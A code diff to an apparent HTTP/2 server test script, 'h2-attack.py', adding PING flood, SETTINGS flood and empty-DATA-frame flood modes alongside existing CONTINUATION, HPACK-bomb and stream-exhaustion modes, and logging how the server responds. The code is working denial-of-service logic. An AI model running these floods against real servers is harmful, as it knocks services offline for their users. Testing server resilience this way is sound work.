@@ -8,6 +8,9 @@ usage: python h2-attack.py MODE SNI IP PORT CA_FILE [ARG]
   continuation N    one HEADERS frame and N CONTINUATION frames that never end the block
   hpack-bomb N      one request with a 4 KiB header repeated N times (a few bytes each, once indexed)
   streams N         N streams opened with a body still to come (more than the server allows at once)
+  ping-flood N      N PING frames sent before reading the server's acknowledgements
+  settings-flood N  N SETTINGS frames sent before reading the server's acknowledgements
+  empty-data N      one POST stream, N empty DATA frames, then the end of its body
 """
 import json
 import socket
@@ -38,7 +41,7 @@ sock.sendall(conn.data_to_send())
 # Let h2 open as many streams as we ask: the server is the one to refuse them.
 h2.settings.Settings.max_concurrent_streams = property(lambda self: 2 ** 31)
 
-result = {"responses": {}, "resets": {}, "goaway": None, "closed": False}
+result = {"responses": {}, "resets": {}, "goaway": None, "closed": False, "pingAcks": 0, "settingsAcks": 0}
 
 
 def base(path="/", method="GET"):
@@ -74,6 +77,10 @@ def pump(until):
                 result["responses"].setdefault(ev.stream_id, {})["ended"] = True
             elif isinstance(ev, h2.events.StreamReset):
                 result["resets"][ev.stream_id] = int(ev.error_code)
+            elif isinstance(ev, h2.events.PingAckReceived):
+                result["pingAcks"] += 1
+            elif isinstance(ev, h2.events.SettingsAcknowledged):
+                result["settingsAcks"] += 1
             elif isinstance(ev, h2.events.ConnectionTerminated):
                 result["goaway"] = int(ev.error_code)
         try:
@@ -157,6 +164,41 @@ elif mode == "streams":
     # Every refused stream is told so at once; the others wait for their body.
     pump(lambda: ended() or len(result["resets"]) >= n - 100)
     result["opened"] = len(sids)
+elif mode in ("ping-flood", "settings-flood"):
+    n = int(arg)
+    sent = 0
+    for i in range(n):
+        if mode == "ping-flood":
+            conn.ping(i.to_bytes(8, "big"))
+        else:
+            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + (i % 2)})
+        # Sent in batches, never reading: the acknowledgements pile up on the server's side.
+        if i % 100 == 99 or i == n - 1:
+            if not send(conn.data_to_send()):
+                break
+        sent += 1
+    result["sent"] = sent
+    # Read now: every acknowledgement, or the end of the connection.
+    key = "pingAcks" if mode == "ping-flood" else "settingsAcks"
+    pump(lambda: ended() or result[key] >= sent)
+elif mode == "empty-data":
+    n = int(arg)
+    sid = conn.get_next_available_stream_id()
+    conn.send_headers(sid, base("/empty-data", "POST"), end_stream=False)
+    send(conn.data_to_send())
+    sent = 0
+    for i in range(n):
+        conn.send_data(sid, b"", end_stream=False)
+        if i % 100 == 99 or i == n - 1:
+            if not send(conn.data_to_send()):
+                break
+        sent += 1
+    result["sent"] = sent
+    # Then the end of the body: the request's answer, or the end of the connection.
+    if not ended():
+        conn.end_stream(sid)
+        send(conn.data_to_send())
+    pump(done(sid))
 else:
     raise SystemExit(f"unknown mode {mode}")
 
